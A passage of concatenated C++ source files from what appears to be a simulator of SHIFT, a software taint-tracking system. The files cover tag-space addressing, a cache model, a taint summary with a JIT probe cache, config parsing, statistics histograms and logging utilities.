 * Translate a data virtual address to the address of the tag byte that
 * holds its taint bit (figure 4): fold the region number down into the
 * implemented bits, then shift by the bitmap density. The resulting
 * address falls in region 0 (the tag space).
 *
 * Byte granularity: 1 tag bit per byte  -> tag byte covers 8 bytes.
 * Word granularity: 1 tag bit per word  -> tag byte covers 64 bytes.
 */
constexpr uint64_t
tagByteAddr(uint64_t va, Granularity g)
{
    uint64_t folded = (static_cast<uint64_t>(regionOf(va))
                       << kImplementedBits) |
                      regionOffset(va);
    return folded >> (3 + granularityShift(g));
}

/** Bit index of va's taint bit within its tag byte. */
constexpr unsigned
tagBitIndex(uint64_t va, Granularity g)
{
    return static_cast<unsigned>((va >> granularityShift(g)) & 7);
}

} // namespace shift

#endif // SHIFT_MEM_ADDRESS_SPACE_HH
