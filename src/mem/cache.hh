/**
 * @file
 * A small set-associative L1 data cache model used purely for cycle
 * accounting. The paper's figure 9 observes that "most memory accesses
 * actually hit in L1 cache, [so] the cost for memory access is not
 * significant" — the cache model is what lets our breakdown reproduce
 * that: bitmap accesses are dense and hit almost always.
 */

#ifndef SHIFT_MEM_CACHE_HH
#define SHIFT_MEM_CACHE_HH

#include <cstddef>
#include <cstdint>
#include <vector>

namespace shift
{

/** LRU set-associative cache (tags only; no data). */
class Cache
{
  public:
    struct Params
    {
        uint64_t sizeBytes = 16 * 1024;
        unsigned assoc = 4;
        unsigned lineBytes = 64;
    };

    Cache() : Cache(Params{}) {}
    explicit Cache(const Params &params);

    /**
     * Access a line: returns true on hit; allocates on miss. Inline:
     * the interpreter consults the model on every simulated load and
     * store, and the hit path is a short tag scan over one set.
     */
    bool
    access(uint64_t addr)
    {
        uint64_t lineAddr = addr >> lineShift_;
        unsigned set = static_cast<unsigned>(lineAddr & (numSets_ - 1));
        uint64_t tag = lineAddr; // full line address as tag: exact
        Line *ways = &lines_[static_cast<size_t>(set) * params_.assoc];
        unsigned assoc = params_.assoc;
        ++tick_;

        for (unsigned w = 0; w < assoc; ++w) {
            Line &line = ways[w];
            if (line.valid && line.tag == tag) {
                line.lru = tick_;
                ++hits_;
                return true;
            }
        }
        fill(ways, tag);
        return false;
    }

    /** Drop all lines. */
    void reset();

    uint64_t hits() const { return hits_; }
    uint64_t misses() const { return misses_; }

  private:
    struct Line
    {
        uint64_t tag = 0;
        uint64_t lru = 0;
        bool valid = false;
    };

    /** Miss path: fill an invalid way or evict the LRU way. */
    void fill(Line *ways, uint64_t tag);

    Params params_;
    unsigned numSets_;
    unsigned lineShift_;
    std::vector<Line> lines_;
    uint64_t tick_ = 0;
    uint64_t hits_ = 0;
    uint64_t misses_ = 0;
};

} // namespace shift

#endif // SHIFT_MEM_CACHE_HH
