/**
 * @file
 * A small set-associative L1 data cache model used purely for cycle
 * accounting. The paper's figure 9 observes that "most memory accesses
 * actually hit in L1 cache, [so] the cost for memory access is not
 * significant" — the cache model is what lets our breakdown reproduce
 * that: bitmap accesses are dense and hit almost always.
 */

#ifndef SHIFT_MEM_CACHE_HH
#define SHIFT_MEM_CACHE_HH

#include <cstdint>
#include <vector>

namespace shift
{

/** LRU set-associative cache (tags only; no data). */
class Cache
{
  public:
    struct Params
    {
        uint64_t sizeBytes = 16 * 1024;
        unsigned assoc = 4;
        unsigned lineBytes = 64;
    };

    Cache() : Cache(Params{}) {}
    explicit Cache(const Params &params);

    /** Access a line: returns true on hit; allocates on miss. */
    bool access(uint64_t addr);

    /** Drop all lines. */
    void reset();

    uint64_t hits() const { return hits_; }
    uint64_t misses() const { return misses_; }

  private:
    struct Line
    {
        uint64_t tag = 0;
        uint64_t lru = 0;
        bool valid = false;
    };

    Params params_;
    unsigned numSets_;
    unsigned lineShift_;
    std::vector<Line> lines_;
    uint64_t tick_ = 0;
    uint64_t hits_ = 0;
    uint64_t misses_ = 0;
};

} // namespace shift

#endif // SHIFT_MEM_CACHE_HH
