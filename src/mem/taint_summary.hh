/**
 * @file
 * Hierarchical taint summary: per-page and per-64B-line dirty bits
 * over the tag space (region 0).
 *
 * SHIFT's software bitmap makes every instrumented load pay a bitmap
 * read even when the memory it covers has never been tainted — which
 * on server workloads is nearly all of it. The summary collapses that
 * cost: a tag-space page is *dirty* only if some nonzero byte was ever
 * written into it, tracked at two levels — page presence in a sparse
 * map (absent page == clean page, mirroring the bitmap's own
 * demand-mapped allocation) and a 64-bit line mask per present page
 * (one bit per 64-byte tag line). The fast-path probes (see
 * docs/FAST-PATH.md) consult the summary instead of the bitmap: a
 * clean line proves the elided check/update would have read zeros and
 * written nothing.
 *
 * The summary is deliberately *conservative and sticky*: bits are set
 * when a nonzero value is stored into region 0 and never cleared by
 * later zero stores (clearing taint leaves the line "dirty"). Sticky
 * bits can only cost performance (a deopt to the instrumented path),
 * never correctness, and they make maintenance a single branch on the
 * store path. restore() replaces the summary wholesale with the
 * snapshot's capture, so a fleet clone starts from the template's
 * summary and dirties only its own copy — sibling isolation falls out
 * of value semantics, no COW machinery needed (the summary is tiny:
 * one u64 per ever-dirty tag page).
 */

#ifndef SHIFT_MEM_TAINT_SUMMARY_HH
#define SHIFT_MEM_TAINT_SUMMARY_HH

#include <cstddef>
#include <cstdint>
#include <unordered_map>

namespace shift
{

/** Page/line dirty bits over the tag space. Value-copyable. */
class TaintSummary
{
  public:
    static constexpr unsigned kPageShift = 12;
    static constexpr unsigned kLineShift = 6; ///< 64-byte lines
    static constexpr unsigned kLinesPerPage = 64;

    /**
     * Record that the `size` bytes at addr (a tag-space address) may
     * now hold nonzero taint. Sizes are 1..8, so at most two adjacent
     * lines are touched.
     */
    void
    mark(uint64_t addr, unsigned size)
    {
        markLine(addr);
        uint64_t last = addr + (size ? size - 1 : 0);
        if ((last >> kLineShift) != (addr >> kLineShift))
            markLine(last);
    }

    /** True when the 64B line holding addr was ever marked. */
    bool
    lineDirty(uint64_t addr) const
    {
        const uint64_t *bits = findBits(addr >> kPageShift);
        if (!bits)
            return false;
        return (*bits >> lineIndex(addr)) & 1;
    }

    /**
     * True when either line under [addr, addr+1] is dirty — the probe
     * shape for byte-granularity checks, which read a 2-byte window of
     * the bitmap that may straddle a line.
     */
    bool
    pairDirty(uint64_t addr) const
    {
        return lineDirty(addr) || lineDirty(addr + 1);
    }

    /** True when any line of addr's page is dirty. */
    bool
    pageDirty(uint64_t addr) const
    {
        return findBits(addr >> kPageShift) != nullptr;
    }

    /** Number of pages with at least one dirty line. */
    size_t dirtyPageCount() const { return pages_.size(); }

    /** Total dirty lines across all pages. */
    uint64_t
    dirtyLineCount() const
    {
        uint64_t n = 0;
        for (const auto &entry : pages_)
            n += static_cast<uint64_t>(__builtin_popcountll(entry.second));
        return n;
    }

    /** Drop every bit (used only by tests; runs never clean a line). */
    void
    clear()
    {
        pages_.clear();
        resetCache();
    }

  private:
    static unsigned
    lineIndex(uint64_t addr)
    {
        return static_cast<unsigned>((addr >> kLineShift) &
                                     (kLinesPerPage - 1));
    }

    void
    markLine(uint64_t addr)
    {
        uint64_t key = addr >> kPageShift;
        uint64_t &bits = pages_[key];
        bits |= 1ULL << lineIndex(addr);
        // Keep the probe cache coherent: the insert may have created
        // the entry this key's cached "clean" verdict denied.
        Way &w = cache_[key & (kCacheWays - 1)];
        w.key = key;
        w.bits = &bits;
    }

    /**
     * Direct-mapped probe cache: instrumented code probes a handful
     * of tag pages back to back (one bitmap page covers 32 KiB of
     * data, and a copy loop alternates between its source's and
     * destination's pages), so nearly every probe skips the hash
     * lookup. Caches negative results too (bits == nullptr means
     * "known clean"); markLine() refreshes the mapped way, so a
     * cached verdict is never stale. Element pointers into
     * unordered_map survive rehashing.
     */
    const uint64_t *
    findBits(uint64_t key) const
    {
        Way &w = cache_[key & (kCacheWays - 1)];
        if (w.key == key)
            return w.bits;
        auto it = pages_.find(key);
        w.key = key;
        w.bits = it == pages_.end() ? nullptr : &it->second;
        return w.bits;
    }

    void
    resetCache()
    {
        for (Way &w : cache_)
            w = Way{};
    }

    static constexpr uint64_t kNoKey = ~0ULL;
    static constexpr unsigned kCacheWays = 16;

    struct Way
    {
        uint64_t key = kNoKey;
        const uint64_t *bits = nullptr;
    };

    std::unordered_map<uint64_t, uint64_t> pages_;
    mutable Way cache_[kCacheWays];

    // The JIT's inline probes read the ways directly (jitWays()).
    static_assert(offsetof(Way, key) == 0 &&
                      offsetof(Way, bits) == 8 && sizeof(Way) == 16,
                  "Way layout is baked into JIT-emitted code");

  public:
    /**
     * The probe-cache ways, for the JIT's inline Fp* probe bodies
     * (way layout pinned below). A cached way whose key matches
     * yields the verdict directly (bits == nullptr is "known
     * clean"); anything else — way miss, dirty line — takes the
     * out-of-line helper, which consults findBits()/deopts exactly
     * as the interpreter would.
     */
    const void *jitWays() const { return cache_; }

    /** Geometry of the jitWays() array (checked against Way). */
    static constexpr size_t kJitWays = 16;
    static constexpr size_t kJitWaySize = 16;
    static_assert(kJitWays == kCacheWays && kJitWaySize == sizeof(Way),
                  "jitWays geometry out of sync with the probe cache");

    TaintSummary() = default;
    TaintSummary(const TaintSummary &other) : pages_(other.pages_) {}
    TaintSummary &
    operator=(const TaintSummary &other)
    {
        // The cache points into our own map; never copy the other's.
        pages_ = other.pages_;
        resetCache();
        return *this;
    }
};

} // namespace shift

#endif // SHIFT_MEM_TAINT_SUMMARY_HH
