/**
 * @file
 * INI-style configuration files.
 *
 * SHIFT assigns security policy in software: "Users specify policies by
 * writing a simple configuration file, which is then read by SHIFT to
 * control the process of instrumentation" (paper section 4.2). This
 * parser supports the format used throughout the repository:
 *
 *     # comment
 *     [sources]
 *     network = taint
 *     [policies]
 *     H1 = on
 *     [wrap]
 *     strcpy = copy(0, 1)
 */

#ifndef SHIFT_SUPPORT_CONFIG_HH
#define SHIFT_SUPPORT_CONFIG_HH

#include <cstdint>
#include <map>
#include <string>
#include <vector>

namespace shift
{

/** Parsed key/value configuration grouped into sections. */
class Config
{
  public:
    Config() = default;

    /** Parse configuration text; throws FatalError on syntax errors. */
    static Config parse(const std::string &text);

    /** Parse a configuration file from disk. */
    static Config parseFile(const std::string &path);

    /** True when section.key exists. */
    bool has(const std::string &section, const std::string &key) const;

    /** Fetch section.key, or dflt when absent. */
    std::string get(const std::string &section, const std::string &key,
                    const std::string &dflt = "") const;

    /** Fetch a boolean ("on"/"off", "true"/"false", "1"/"0", "yes"/"no"). */
    bool getBool(const std::string &section, const std::string &key,
                 bool dflt = false) const;

    /** Fetch an integer (decimal or 0x-hex); throws on malformed values. */
    int64_t getInt(const std::string &section, const std::string &key,
                   int64_t dflt = 0) const;

    /** Set section.key = value (used to build configs programmatically). */
    void set(const std::string &section, const std::string &key,
             const std::string &value);

    /** All keys of a section in file order. */
    std::vector<std::string> keys(const std::string &section) const;

    /** All section names in file order. */
    std::vector<std::string> sections() const;

  private:
    struct Section
    {
        std::string name;
        std::vector<std::pair<std::string, std::string>> entries;
    };

    const Section *findSection(const std::string &name) const;
    Section &getOrCreateSection(const std::string &name);

    std::vector<Section> sections_;
};

/** Trim leading/trailing whitespace. */
std::string trim(const std::string &s);

/** Case-insensitive ASCII string equality. */
bool iequals(const std::string &a, const std::string &b);

/** Split on a delimiter character; pieces are trimmed. */
std::vector<std::string> splitTrim(const std::string &s, char delim);

} // namespace shift

#endif // SHIFT_SUPPORT_CONFIG_HH
