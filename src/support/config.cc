#include "config.hh"

#include <cctype>
#include <fstream>
#include <sstream>

#include "logging.hh"

namespace shift
{

std::string
trim(const std::string &s)
{
    size_t b = 0;
    size_t e = s.size();
    while (b < e && std::isspace(static_cast<unsigned char>(s[b])))
        ++b;
    while (e > b && std::isspace(static_cast<unsigned char>(s[e - 1])))
        --e;
    return s.substr(b, e - b);
}

bool
iequals(const std::string &a, const std::string &b)
{
    if (a.size() != b.size())
        return false;
    for (size_t i = 0; i < a.size(); ++i) {
        if (std::tolower(static_cast<unsigned char>(a[i])) !=
            std::tolower(static_cast<unsigned char>(b[i])))
            return false;
    }
    return true;
}

std::vector<std::string>
splitTrim(const std::string &s, char delim)
{
    std::vector<std::string> out;
    std::string cur;
    for (char c : s) {
        if (c == delim) {
            out.push_back(trim(cur));
            cur.clear();
        } else {
            cur.push_back(c);
        }
    }
    out.push_back(trim(cur));
    return out;
}

Config
Config::parse(const std::string &text)
{
    Config cfg;
    std::istringstream in(text);
    std::string line;
    std::string section;
    int lineno = 0;
    while (std::getline(in, line)) {
        ++lineno;
        // Strip comments introduced by '#' or ';'.
        size_t hash = line.find_first_of("#;");
        if (hash != std::string::npos)
            line = line.substr(0, hash);
        line = trim(line);
        if (line.empty())
            continue;
        if (line.front() == '[') {
            if (line.back() != ']')
                SHIFT_FATAL("config line %d: unterminated section header",
                            lineno);
            section = trim(line.substr(1, line.size() - 2));
            if (section.empty())
                SHIFT_FATAL("config line %d: empty section name", lineno);
            cfg.getOrCreateSection(section);
            continue;
        }
        size_t eq = line.find('=');
        if (eq == std::string::npos)
            SHIFT_FATAL("config line %d: expected 'key = value'", lineno);
        std::string key = trim(line.substr(0, eq));
        std::string value = trim(line.substr(eq + 1));
        if (key.empty())
            SHIFT_FATAL("config line %d: empty key", lineno);
        cfg.set(section, key, value);
    }
    return cfg;
}

Config
Config::parseFile(const std::string &path)
{
    std::ifstream in(path);
    if (!in)
        SHIFT_FATAL("cannot open config file '%s'", path.c_str());
    std::ostringstream ss;
    ss << in.rdbuf();
    return parse(ss.str());
}

const Config::Section *
Config::findSection(const std::string &name) const
{
    for (const auto &sec : sections_) {
        if (iequals(sec.name, name))
            return &sec;
    }
    return nullptr;
}

Config::Section &
Config::getOrCreateSection(const std::string &name)
{
    for (auto &sec : sections_) {
        if (iequals(sec.name, name))
            return sec;
    }
    sections_.push_back(Section{name, {}});
    return sections_.back();
}

bool
Config::has(const std::string &section, const std::string &key) const
{
    const Section *sec = findSection(section);
    if (!sec)
        return false;
    for (const auto &kv : sec->entries) {
        if (iequals(kv.first, key))
            return true;
    }
    return false;
}

std::string
Config::get(const std::string &section, const std::string &key,
            const std::string &dflt) const
{
    const Section *sec = findSection(section);
    if (!sec)
        return dflt;
    for (const auto &kv : sec->entries) {
        if (iequals(kv.first, key))
            return kv.second;
    }
    return dflt;
}

bool
Config::getBool(const std::string &section, const std::string &key,
                bool dflt) const
{
    if (!has(section, key))
        return dflt;
    std::string v = get(section, key);
    if (iequals(v, "on") || iequals(v, "true") || iequals(v, "yes") ||
        v == "1")
        return true;
    if (iequals(v, "off") || iequals(v, "false") || iequals(v, "no") ||
        v == "0")
        return false;
    SHIFT_FATAL("config %s.%s: '%s' is not a boolean", section.c_str(),
                key.c_str(), v.c_str());
}

int64_t
Config::getInt(const std::string &section, const std::string &key,
               int64_t dflt) const
{
    if (!has(section, key))
        return dflt;
    std::string v = get(section, key);
    try {
        size_t pos = 0;
        int64_t result = std::stoll(v, &pos, 0);
        if (pos != v.size())
            throw std::invalid_argument(v);
        return result;
    } catch (const std::exception &) {
        SHIFT_FATAL("config %s.%s: '%s' is not an integer",
                    section.c_str(), key.c_str(), v.c_str());
    }
}

void
Config::set(const std::string &section, const std::string &key,
            const std::string &value)
{
    Section &sec = getOrCreateSection(section);
    for (auto &kv : sec.entries) {
        if (iequals(kv.first, key)) {
            kv.second = value;
            return;
        }
    }
    sec.entries.emplace_back(key, value);
}

std::vector<std::string>
Config::keys(const std::string &section) const
{
    std::vector<std::string> out;
    const Section *sec = findSection(section);
    if (!sec)
        return out;
    out.reserve(sec->entries.size());
    for (const auto &kv : sec->entries)
        out.push_back(kv.first);
    return out;
}

std::vector<std::string>
Config::sections() const
{
    std::vector<std::string> out;
    out.reserve(sections_.size());
    for (const auto &sec : sections_)
        out.push_back(sec.name);
    return out;
}

} // namespace shift
