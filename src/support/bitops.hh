/**
 * @file
 * Small bit-manipulation helpers used across the simulator.
 */

#ifndef SHIFT_SUPPORT_BITOPS_HH
#define SHIFT_SUPPORT_BITOPS_HH

#include <cstdint>

namespace shift
{

/** Extract bits [hi:lo] (inclusive) of a 64-bit value. */
constexpr uint64_t
bits(uint64_t value, unsigned hi, unsigned lo)
{
    uint64_t width = hi - lo + 1;
    uint64_t mask = width >= 64 ? ~0ULL : ((1ULL << width) - 1);
    return (value >> lo) & mask;
}

/** Test a single bit. */
constexpr bool
bit(uint64_t value, unsigned n)
{
    return (value >> n) & 1ULL;
}

/** Set or clear bit n of value. */
constexpr uint64_t
insertBit(uint64_t value, unsigned n, bool b)
{
    uint64_t mask = 1ULL << n;
    return b ? (value | mask) : (value & ~mask);
}

/** A mask of n low bits. */
constexpr uint64_t
lowMask(unsigned n)
{
    return n >= 64 ? ~0ULL : ((1ULL << n) - 1);
}

/** Sign-extend the low `width` bits of value to 64 bits. */
constexpr int64_t
signExtend(uint64_t value, unsigned width)
{
    if (width >= 64)
        return static_cast<int64_t>(value);
    uint64_t sign = 1ULL << (width - 1);
    uint64_t masked = value & lowMask(width);
    return static_cast<int64_t>((masked ^ sign) - sign);
}

/** Round x up to a multiple of align (align must be a power of two). */
constexpr uint64_t
roundUp(uint64_t x, uint64_t align)
{
    return (x + align - 1) & ~(align - 1);
}

/** True when x is a power of two (and nonzero). */
constexpr bool
isPowerOf2(uint64_t x)
{
    return x != 0 && (x & (x - 1)) == 0;
}

} // namespace shift

#endif // SHIFT_SUPPORT_BITOPS_HH
