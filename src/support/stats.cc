#include "stats.hh"

#include <algorithm>
#include <bit>
#include <sstream>

namespace shift
{

// ----- Histogram --------------------------------------------------------

unsigned
Histogram::bucketOf(uint64_t value)
{
    if (value == 0)
        return 0;
    // The top bucket absorbs [2^62, UINT64_MAX] so every value maps
    // in range.
    return std::min(64u - static_cast<unsigned>(std::countl_zero(value)),
                    kBuckets - 1);
}

uint64_t
Histogram::bucketLow(unsigned bucket)
{
    if (bucket == 0)
        return 0;
    return uint64_t(1) << (bucket - 1);
}

uint64_t
Histogram::bucketHigh(unsigned bucket)
{
    if (bucket == 0)
        return 0;
    if (bucket == kBuckets - 1)
        return UINT64_MAX;
    return (uint64_t(1) << bucket) - 1;
}

void
Histogram::record(uint64_t value, uint64_t weight)
{
    if (weight == 0)
        return;
    buckets_[bucketOf(value)] += weight;
    count_ += weight;
    sum_ += value * weight;
    min_ = std::min(min_, value);
    max_ = std::max(max_, value);
}

void
Histogram::merge(const Histogram &other)
{
    if (other.count_ == 0)
        return;
    for (unsigned i = 0; i < kBuckets; ++i)
        buckets_[i] += other.buckets_[i];
    count_ += other.count_;
    sum_ += other.sum_;
    min_ = std::min(min_, other.min_);
    max_ = std::max(max_, other.max_);
}

uint64_t
Histogram::quantile(double q) const
{
    if (count_ == 0)
        return 0;
    q = std::clamp(q, 0.0, 1.0);
    // Rank of the requested sample among count_ samples.
    double rank = q * double(count_ - 1);
    uint64_t below = 0;
    for (unsigned i = 0; i < kBuckets; ++i) {
        uint64_t n = buckets_[i];
        if (n == 0)
            continue;
        if (rank < double(below + n)) {
            // Interpolate inside this bucket, clamped to what was
            // actually observed so single-bucket histograms report
            // exact values.
            uint64_t lo = std::max(bucketLow(i), min_);
            uint64_t hi = std::min(bucketHigh(i), max_);
            if (hi <= lo || n == 1)
                return lo;
            double frac = (rank - double(below)) / double(n - 1);
            return lo + uint64_t(frac * double(hi - lo) + 0.5);
        }
        below += n;
    }
    return max_;
}

// ----- StatSet ----------------------------------------------------------

void
StatSet::add(const std::string &name, uint64_t delta)
{
    counters_[name] += delta;
}

uint64_t
StatSet::get(const std::string &name) const
{
    auto it = counters_.find(name);
    return it == counters_.end() ? 0 : it->second;
}

void
StatSet::setGauge(const std::string &name, uint64_t value)
{
    gauges_[name] = value;
}

uint64_t
StatSet::gauge(const std::string &name) const
{
    auto it = gauges_.find(name);
    return it == gauges_.end() ? 0 : it->second;
}

void
StatSet::record(const std::string &name, uint64_t value, uint64_t weight)
{
    histograms_[name].record(value, weight);
}

const Histogram *
StatSet::histogram(const std::string &name) const
{
    auto it = histograms_.find(name);
    return it == histograms_.end() ? nullptr : &it->second;
}

void
StatSet::clear()
{
    counters_.clear();
    gauges_.clear();
    histograms_.clear();
}

std::vector<std::string>
StatSet::names() const
{
    std::vector<std::string> out;
    out.reserve(counters_.size());
    for (const auto &kv : counters_)
        out.push_back(kv.first);
    return out;
}

void
StatSet::forEach(
    const std::function<void(const std::string &, uint64_t)> &fn) const
{
    for (const auto &kv : counters_)
        fn(kv.first, kv.second);
}

void
StatSet::forEachGauge(
    const std::function<void(const std::string &, uint64_t)> &fn) const
{
    for (const auto &kv : gauges_)
        fn(kv.first, kv.second);
}

void
StatSet::forEachHistogram(
    const std::function<void(const std::string &, const Histogram &)> &fn)
    const
{
    for (const auto &kv : histograms_)
        fn(kv.first, kv.second);
}

std::string
StatSet::dump() const
{
    std::ostringstream ss;
    for (const auto &kv : counters_)
        ss << "counter " << kv.first << " = " << kv.second << "\n";
    for (const auto &kv : gauges_)
        ss << "gauge " << kv.first << " = " << kv.second << "\n";
    for (const auto &kv : histograms_) {
        const Histogram &h = kv.second;
        ss << "hist " << kv.first << " count=" << h.count()
           << " sum=" << h.sum() << " min=" << h.min()
           << " max=" << h.max() << " p50=" << h.quantile(0.50)
           << " p99=" << h.quantile(0.99) << "\n";
    }
    return ss.str();
}

void
StatSet::merge(const StatSet &other)
{
    for (const auto &kv : other.counters_)
        counters_[kv.first] += kv.second;
    for (const auto &kv : other.gauges_) {
        uint64_t &g = gauges_[kv.first];
        g = std::max(g, kv.second);
    }
    for (const auto &kv : other.histograms_)
        histograms_[kv.first].merge(kv.second);
}

void
StatSet::mergeHistogram(const std::string &name, const Histogram &hist)
{
    if (hist.count())
        histograms_[name].merge(hist);
}

} // namespace shift
