#include "stats.hh"

#include <sstream>

namespace shift
{

void
StatSet::add(const std::string &name, uint64_t delta)
{
    counters_[name] += delta;
}

uint64_t
StatSet::get(const std::string &name) const
{
    auto it = counters_.find(name);
    return it == counters_.end() ? 0 : it->second;
}

void
StatSet::clear()
{
    counters_.clear();
}

std::vector<std::string>
StatSet::names() const
{
    std::vector<std::string> out;
    out.reserve(counters_.size());
    for (const auto &kv : counters_)
        out.push_back(kv.first);
    return out;
}

std::string
StatSet::dump() const
{
    std::ostringstream ss;
    for (const auto &kv : counters_)
        ss << kv.first << " = " << kv.second << "\n";
    return ss.str();
}

void
StatSet::merge(const StatSet &other)
{
    for (const auto &kv : other.counters_)
        counters_[kv.first] += kv.second;
}

} // namespace shift
