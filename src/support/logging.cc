#include "logging.hh"

#include <atomic>
#include <cstdarg>
#include <mutex>
#include <vector>

namespace shift
{

namespace
{

std::atomic<bool> verboseOutput{true};

/** One sink guard: fleet workers log concurrently. */
std::mutex &
sinkMutex()
{
    static std::mutex m;
    return m;
}

/** Per-thread clone id (negative = untagged). */
thread_local int logCloneId = -1;

void
emit(const char *prefix, const std::string &msg)
{
    std::lock_guard<std::mutex> lock(sinkMutex());
    if (logCloneId >= 0)
        std::fprintf(stderr, "%s[clone %d] %s\n", prefix, logCloneId,
                     msg.c_str());
    else
        std::fprintf(stderr, "%s%s\n", prefix, msg.c_str());
}

} // namespace

namespace detail
{

std::string
formatMessage(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    va_list ap2;
    va_copy(ap2, ap);
    int n = std::vsnprintf(nullptr, 0, fmt, ap);
    va_end(ap);
    if (n < 0) {
        va_end(ap2);
        return fmt;
    }
    std::vector<char> buf(static_cast<size_t>(n) + 1);
    std::vsnprintf(buf.data(), buf.size(), fmt, ap2);
    va_end(ap2);
    return std::string(buf.data(), static_cast<size_t>(n));
}

} // namespace detail

void
panicImpl(const char *file, int line, const std::string &msg)
{
    emit("panic: ", detail::formatMessage("%s (%s:%d)", msg.c_str(),
                                          file, line));
    std::abort();
}

void
fatalImpl(const char *file, int line, const std::string &msg)
{
    // fatal() reports by throwing rather than printing, so the clone
    // tag is embedded in the message itself — whoever catches and
    // prints the FatalError (the fleet worker's crash report, a test
    // harness) still sees which clone raised it.
    int clone = logCloneTag();
    if (clone >= 0)
        throw FatalError(detail::formatMessage("[clone %d] %s (%s:%d)",
                                               clone, msg.c_str(), file,
                                               line));
    throw FatalError(detail::formatMessage("%s (%s:%d)", msg.c_str(),
                                           file, line));
}

void
warnImpl(const std::string &msg)
{
    if (verboseOutput.load(std::memory_order_relaxed))
        emit("warn: ", msg);
}

void
informImpl(const std::string &msg)
{
    if (verboseOutput.load(std::memory_order_relaxed))
        emit("info: ", msg);
}

void
setVerbose(bool verbose)
{
    verboseOutput.store(verbose, std::memory_order_relaxed);
}

void
setLogCloneTag(int cloneId)
{
    logCloneId = cloneId;
}

int
logCloneTag()
{
    return logCloneId;
}

} // namespace shift
