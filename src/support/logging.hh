/**
 * @file
 * Error-reporting and diagnostic helpers in the gem5 style.
 *
 * panic()  - an internal invariant was violated (simulator bug); aborts.
 * fatal()  - the user asked for something impossible (bad config, bad
 *            source program); throws FatalError so callers/tests can
 *            observe it.
 * warn()   - something is suspicious but simulation can continue.
 * inform() - status messages.
 */

#ifndef SHIFT_SUPPORT_LOGGING_HH
#define SHIFT_SUPPORT_LOGGING_HH

#include <cstdio>
#include <cstdlib>
#include <stdexcept>
#include <string>

namespace shift
{

/** Exception thrown by fatal(): a user-level, recoverable error. */
class FatalError : public std::runtime_error
{
  public:
    explicit FatalError(const std::string &msg) : std::runtime_error(msg) {}
};

namespace detail
{
std::string formatMessage(const char *fmt, ...)
    __attribute__((format(printf, 1, 2)));
} // namespace detail

/** Abort with a message: an internal simulator bug. */
[[noreturn]] void panicImpl(const char *file, int line,
                            const std::string &msg);

/** Throw FatalError: a user error (bad config, malformed program...). */
[[noreturn]] void fatalImpl(const char *file, int line,
                            const std::string &msg);

/** Print a warning to stderr. */
void warnImpl(const std::string &msg);

/** Print a status message to stderr. */
void informImpl(const std::string &msg);

/** Toggle warn()/inform() output (tests silence it). */
void setVerbose(bool verbose);

/**
 * Tag this thread's warn()/inform() output with a clone id, so
 * interleaved fleet-worker output stays attributable ("[clone 3]
 * ..."). Pass a negative id to clear the tag. The sink itself is
 * mutex-guarded, so concurrent workers never interleave mid-line.
 */
void setLogCloneTag(int cloneId);

/**
 * This thread's clone tag (negative when untagged). fatal() embeds it
 * in the thrown message and the flight recorder stamps events with
 * it, so every diagnostic channel agrees on attribution.
 */
int logCloneTag();

#define SHIFT_PANIC(...) \
    ::shift::panicImpl(__FILE__, __LINE__, \
                       ::shift::detail::formatMessage(__VA_ARGS__))
#define SHIFT_FATAL(...) \
    ::shift::fatalImpl(__FILE__, __LINE__, \
                       ::shift::detail::formatMessage(__VA_ARGS__))
#define SHIFT_WARN(...) \
    ::shift::warnImpl(::shift::detail::formatMessage(__VA_ARGS__))
#define SHIFT_INFORM(...) \
    ::shift::informImpl(::shift::detail::formatMessage(__VA_ARGS__))

/** panic() unless a condition holds. */
#define SHIFT_ASSERT(cond, ...) \
    do { \
        if (!(cond)) \
            SHIFT_PANIC("assertion failed: %s", #cond); \
    } while (0)

} // namespace shift

#endif // SHIFT_SUPPORT_LOGGING_HH
