/**
 * @file
 * A tiny named-counter statistics registry.
 *
 * Simulator components register scalar counters here; benchmark
 * harnesses read them back by name to compute slowdowns and overhead
 * breakdowns (paper figures 7-9). On top of the original flat
 * counters the set now carries two more shapes the observability
 * plane needs (docs/OBSERVABILITY.md):
 *
 *  - Histogram: a fixed-bucket log2 value distribution. Merging two
 *    histograms is a bucket-wise sum, so fleet workers record
 *    per-request latencies locally and the report folds them together
 *    without ever shipping the raw samples.
 *  - gauges: point-in-time values ("fleet.workers", queue depth).
 *    Merging keeps the maximum, which is the only composition that
 *    makes sense for a level sampled on independent threads.
 *
 * Counter names are dot-namespaced and stable; see
 * docs/OBSERVABILITY.md for the schema (`engine.*`, `fastpath.*`,
 * `fleet.*`, `obs.*`).
 */

#ifndef SHIFT_SUPPORT_STATS_HH
#define SHIFT_SUPPORT_STATS_HH

#include <array>
#include <cstdint>
#include <functional>
#include <map>
#include <mutex>
#include <string>
#include <vector>

namespace shift
{

/**
 * A fixed-bucket log2 histogram of non-negative 64-bit samples.
 *
 * Bucket 0 holds the value 0; bucket i (1..63) holds values in
 * [2^(i-1), 2^i). 64 buckets cover the whole uint64_t range in
 * constant memory, so a histogram is safe to keep per worker and
 * merge per job. Quantiles interpolate linearly inside the winning
 * bucket (clamped by the observed min/max), which is exact enough for
 * p50/p99 reporting and — unlike the sorted-vector percentiles it
 * replaces — needs no O(samples) storage.
 */
class Histogram
{
  public:
    static constexpr unsigned kBuckets = 64;

    /** Bucket index for a value: 0 for 0, else floor(log2(v)) + 1. */
    static unsigned bucketOf(uint64_t value);

    /** Inclusive lower bound of a bucket (0, 1, 2, 4, 8, ...). */
    static uint64_t bucketLow(unsigned bucket);

    /** Inclusive upper bound of a bucket (0, 1, 3, 7, 15, ...). */
    static uint64_t bucketHigh(unsigned bucket);

    /** Record `weight` samples of `value`. */
    void record(uint64_t value, uint64_t weight = 1);

    /** Bucket-wise sum (associative and commutative). */
    void merge(const Histogram &other);

    uint64_t count() const { return count_; }
    uint64_t sum() const { return sum_; }
    uint64_t min() const { return count_ ? min_ : 0; }
    uint64_t max() const { return max_; }
    double mean() const { return count_ ? double(sum_) / double(count_) : 0; }

    /**
     * Approximate quantile (q in [0,1]) by linear interpolation
     * within the bucket holding rank q*(count-1). Returns 0 on an
     * empty histogram.
     */
    uint64_t quantile(double q) const;

    const std::array<uint64_t, kBuckets> &buckets() const { return buckets_; }
    bool empty() const { return count_ == 0; }

  private:
    std::array<uint64_t, kBuckets> buckets_{};
    uint64_t count_ = 0;
    uint64_t sum_ = 0;
    uint64_t min_ = UINT64_MAX;
    uint64_t max_ = 0;
};

/** A bag of named 64-bit counters, gauges, and histograms. */
class StatSet
{
  public:
    /** Add delta to the named counter (created at zero on first use). */
    void add(const std::string &name, uint64_t delta = 1);

